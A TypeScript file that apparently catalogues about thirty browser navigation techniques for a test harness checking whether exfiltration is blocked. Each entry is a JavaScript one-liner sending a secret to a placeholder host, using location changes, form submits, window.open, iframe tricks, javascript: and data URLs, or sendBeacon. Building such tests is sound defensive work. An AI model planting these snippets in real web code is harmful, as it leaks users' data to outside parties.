import type { Technique } from "./technique";

/** Ways to send something out by going there. */
export const NAVIGATION: readonly Technique[] = [
  goes("location-href", `location.href=HTTP+SECRET`),
  goes("location-replace", `location.replace(HTTP+SECRET)`),
  goes("location-assign-dns", `location.assign("http://"+DNS+"/")`),
  goes("navigation-api", `navigation.navigate(HTTP+SECRET)`),
  goes(
    "meta-refresh",
    `document.head.append(Object.assign(document.createElement("meta"),{httpEquiv:"refresh",content:"0;url="+HTTP+SECRET}))`,
  ),
  goes("anchor-click", `make("a",{href:HTTP+SECRET,textContent:"x"}).click()`),
  goes("anchor-new-tab", `make("a",{href:HTTP+SECRET,target:"_blank",rel:"noopener"}).click()`),
  goes("anchor-top", `make("a",{href:HTTP+SECRET,target:"_top"}).click()`),
  goes("anchor-download", `make("a",{href:HTTP+SECRET,download:"x"}).click()`),
  goes(
    "svg-anchor",
    `const a=node('<svg><a href="'+HTTP+SECRET+'"><text y="9">x</text></a></svg>').firstElementChild;a.dispatchEvent(new MouseEvent("click",{bubbles:true,cancelable:true}))`,
  ),
  goes("area-click", `node('<map name="m"><area href="'+HTTP+SECRET+'"></map>').firstElementChild.click()`),
  goes("form-get", `make("form",{action:HTTP,method:"get",innerHTML:'<input name="s" value="4711">'}).submit()`),
  goes("form-post", `make("form",{action:HTTP,method:"post",innerHTML:'<input name="s" value="4711">'}).submit()`),
  goes(
    "form-request-submit",
    `const f=make("form",{action:HTTP,innerHTML:'<input name="s" value="4711"><button>x</button>'});f.requestSubmit()`,
  ),
  goes("form-new-tab", `make("form",{action:HTTP,target:"_blank",innerHTML:'<input name="s" value="4711">'}).submit()`),
  goes("form-top", `make("form",{action:HTTP,target:"_top",innerHTML:'<input name="s" value="4711">'}).submit()`),
  goes(
    "form-action-attribute",
    `make("form",{action:"about:blank",innerHTML:'<button formaction="'+HTTP+SECRET+'">x</button>'}).firstElementChild.click()`,
  ),
  goes("window-open", `open(HTTP+SECRET)`),
  goes("window-open-self", `open(HTTP+SECRET,"_self")`),
  goes("window-open-parent", `open(HTTP+SECRET,"_parent")`),
  goes("top-location", `top.location=HTTP+SECRET`),
  goes("parent-location-replace", `parent.location.replace(HTTP+SECRET)`),
  goes(
    "child-navigates-parent",
    `make("iframe",{srcdoc:"<script>parent.location='"+HTTP+SECRET+"'<\\/script>"});await wait(300)`,
  ),
  goes(
    "child-target-parent",
    `make("iframe",{srcdoc:'<a id="a" target="_parent" href="'+HTTP+SECRET+'">x</a><form target="_parent" action="'+HTTP+'"></form>'}).onload=(e)=>e.target.contentDocument.forms[0].submit();await wait(400)`,
  ),
  goes("blob-document", `location.href=URL.createObjectURL(new Blob(['<img src="'+HTTP+SECRET+'">'],{type:"text/html"}))`),
  goes("data-document", `location.href='data:text/html,<img src="'+HTTP+'">'`),
  goes("javascript-url", `location.href="javascript:void(new Image().src='"+HTTP+"')"`),
  goes("document-write", `document.open();document.write('<img src="'+HTTP+SECRET+'">');document.close()`),
  goes("reload", `location.reload();await wait(500)`, "quiet"),
  goes("unload-beacon", `addEventListener("pagehide",()=>navigator.sendBeacon(HTTP,SECRET));location.href="about:blank"`),
];

function goes(name: string, code: string, unprotected: Technique["unprotected"] = "leaks"): Technique {
  return { name, code, unprotected, isAlone: true };
}
